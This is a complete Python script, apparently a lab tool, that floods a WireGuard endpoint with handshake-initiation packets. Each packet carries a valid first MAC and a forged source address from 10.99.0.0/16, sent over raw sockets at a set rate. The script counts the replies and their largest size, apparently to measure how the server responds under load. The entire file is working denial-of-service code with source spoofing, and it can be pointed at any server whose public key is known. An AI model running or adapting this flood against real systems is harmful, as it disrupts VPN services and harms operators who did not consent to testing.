#!/usr/bin/env python3
"""handshake-flood.py KEY HOST PORT RATE SECONDS: WireGuard initiations with a valid first MAC, from forged sources.

KEY is the receiver's public key in hex. Sources are 10.99.0.0/16, which must be routed back here: what is answered is
counted. Prints sent, the answers and their largest size, in bytes of UDP payload.
"""
import hashlib, os, random, select, socket, struct, sys, time

key, host, port, rate, seconds = bytes.fromhex(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
mac1_key = hashlib.blake2s(b"mac1----" + key).digest()
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
back = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
back.setblocking(False)


def packet():
    message = struct.pack("<II", 1, random.getrandbits(32)) + os.urandom(108)
    message += hashlib.blake2s(message, key=mac1_key, digest_size=16).digest() + bytes(16)
    source = f"10.99.{random.randrange(256)}.{random.randrange(1, 255)}"
    udp = struct.pack("!HHHH", random.randrange(1024, 65535), port, 8 + len(message), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(message), 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(host))
    return ip + udp + message


sent = answers = largest = 0
start = time.monotonic()
while time.monotonic() - start < seconds:
    due = int((time.monotonic() - start) * rate) - sent
    for _ in range(min(due, 50)):
        out.sendto(packet(), (host, 0))
        sent += 1
    while select.select([back], [], [], 0)[0]:
        got = back.recv(2048)
        if got[16:18] == b"\x0a\x63":
            answers += 1
            largest = max(largest, len(got) - 28)
    time.sleep(0.001)
    if sent == 0 or sent % 500 < 50:
        print("flooding", flush=True) if sent else None
print(f"sent {sent} answers {answers} largest {largest}", flush=True)
